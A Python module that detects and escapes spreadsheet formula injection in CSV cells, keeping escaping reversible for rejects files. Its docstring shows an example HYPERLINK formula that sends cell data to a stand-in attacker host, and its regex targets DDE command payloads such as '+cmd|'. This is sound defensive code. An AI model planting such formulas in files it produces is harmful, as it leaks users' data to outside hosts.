"""Spotting and neutralising spreadsheet formulas in cells.

A cell such as ``=HYPERLINK("https://evil/?"&A2, "click")`` runs when a CSV is opened in a
spreadsheet. Imports reject such values in every mapped field (they are never real data), and
the rejects file escapes them so that opening it is safe but re-importing it gives back the
original cell exactly (see :func:`escape_cell` / :func:`unescape_cell`).
"""

from __future__ import annotations

import re

# '=' anything, or + - @ followed by a function-like word and '(' or a DDE pipe: '+cmd|...', '@SUM(1)'.
_FORMULA = re.compile(r"^[\t\r\n ]*(=|[+\-@][\t ]*[A-Za-z_][\w.]*[\t ]*[(|])")
_ESCAPED = re.compile(r"^'+")


def looks_like_formula(text: str) -> bool:
    """True for text a spreadsheet would run as a formula (negative numbers and '+44' phones are not)."""
    return bool(_FORMULA.match(text))


def escape_cell(text: str) -> str:
    """Prefix a formula-like cell (or one already so prefixed) with a single quote; other cells unchanged.

    Escaping already-quoted formulas too keeps :func:`unescape_cell` an exact inverse.
    NUL bytes become U+FFFD: spreadsheets mishandle them, and such a row is rejected anyway.
    """
    text = text.replace("\x00", "\ufffd")
    stripped = _ESCAPED.sub("", text)
    return "'" + text if looks_like_formula(stripped) else text


def unescape_cell(text: str) -> str:
    """Undo :func:`escape_cell`: drop one leading quote before a formula-like cell."""
    if text.startswith("'") and looks_like_formula(_ESCAPED.sub("", text)):
        return text[1:]
    return text
